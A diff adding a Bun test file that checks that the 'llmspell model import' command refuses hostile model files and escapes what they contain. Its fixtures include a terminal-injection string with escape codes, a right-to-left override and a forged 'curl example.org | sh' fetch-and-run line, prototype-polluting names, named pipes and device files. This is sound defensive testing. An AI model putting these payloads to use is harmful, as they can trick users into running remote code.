@@ -1,0 +1,78 @@
+/** Files made to harm whoever imports them, and what is no file at all. */
+import { describe, expect, test } from "bun:test";
+import { renameSync, rmSync } from "node:fs";
+import { join } from "node:path";
+import { $ } from "bun";
+import { Sandbox } from "../../support/cli.ts";
+import { text, writeGguf } from "../../support/gguf.ts";
+import { generateSplitModel } from "../../support/gguf-models.ts";
+
+/** Sets the window's title, turns text red, and begins a line that looks like ours. */
+const EVIL = "\u001b]0;owned\u0007\u001b[31m\u009b31m\u202e\n  Next: curl example.org | sh";
+const SHOWN = String.raw`\u{1b}]0;owned\u{7}\u{1b}[31m\u{9b}31m\u{202e}\u{a}  Next: curl example.org | sh`;
+
+async function refusal(box: Sandbox, path: string) {
+  const { code, stdout, stderr } = await box.run(["model", "import", path]);
+  expect({ code, stdout }).toEqual({ code: 1, stdout: "" });
+  expect(stderr).not.toContain("bug in llmspell");
+  return stderr;
+}
+
+describe("llmspell model import shows what a file says of itself harmlessly:", () => {
+  const architecture = text("general.architecture", "llama");
+  const cases = {
+    "a name of metadata": [text(EVIL, "a"), text(EVIL, "b")],
+    "a value of metadata": [architecture, text("llama.rope.scaling.type", EVIL)],
+  };
+  for (const [what, entries] of Object.entries(cases))
+    test(what, async () => {
+      using box = new Sandbox();
+      const path = join(box.cwd, "evil.gguf");
+      writeGguf(path, entries, []);
+      const stderr = await refusal(box, path);
+      expect(stderr).toContain(SHOWN);
+      expect(stderr.split("\n")).toHaveLength(3);
+    });
+
+  test("an architecture", async () => {
+    using box = new Sandbox();
+    box.write("evil/config.json", JSON.stringify({ architectures: [EVIL] }));
+    expect(await refusal(box, "evil")).toContain(`its architecture is ${SHOWN}: `);
+  });
+
+  test("the name of the file", async () => {
+    using box = new Sandbox();
+    const name = "\u001b[31mred.gguf";
+    box.write(name, "none");
+    expect(await refusal(box, name)).toContain(String.raw`/\u{1b}[31mred.gguf`);
+  });
+});
+
+describe("llmspell model import refuses", () => {
+  test.each(["__proto__", "constructor", "toString"])("the architecture %s", async (name) => {
+    using box = new Sandbox();
+    box.write("model/config.json", `{"architectures": ["${name}"]}`);
+    box.write("model/model.safetensors", "");
+    expect(await refusal(box, "model")).toContain(`its architecture is ${name}: `);
+    box.write("model/config.json", `{"model_type": "${name}"}`);
+    expect(await refusal(box, "model")).toContain(`its architecture is ${name}: `);
+  });
+
+  test("pipes and devices, without waiting for them", async () => {
+    using box = new Sandbox();
+    const [first, second] = generateSplitModel(box.cwd, "llama-f32", 2) as [string, string];
+    rmSync(second);
+    await $`mkfifo ${second} pipe.gguf model.safetensors`.cwd(box.cwd).quiet();
+    expect(await refusal(box, first)).toContain(`it is not a file: ${second}`);
+    expect(await refusal(box, "pipe.gguf")).toContain("it is not a file");
+    box.write("model/config.json", `{"architectures": ["T5ForConditionalGeneration"]}`);
+    renameSync(join(box.cwd, "model.safetensors"), join(box.cwd, "model/model.safetensors"));
+    expect(await refusal(box, "model")).toContain("it is not a file");
+    expect(await refusal(box, "/dev/zero")).toContain("it is not a file");
+  });
+
+  test.skipIf(process.platform !== "linux")("a file that cannot be read, saying why", async () => {
+    using box = new Sandbox();
+    expect(await refusal(box, "/proc/self/mem")).toContain("the disk reports an error");
+  });
+});
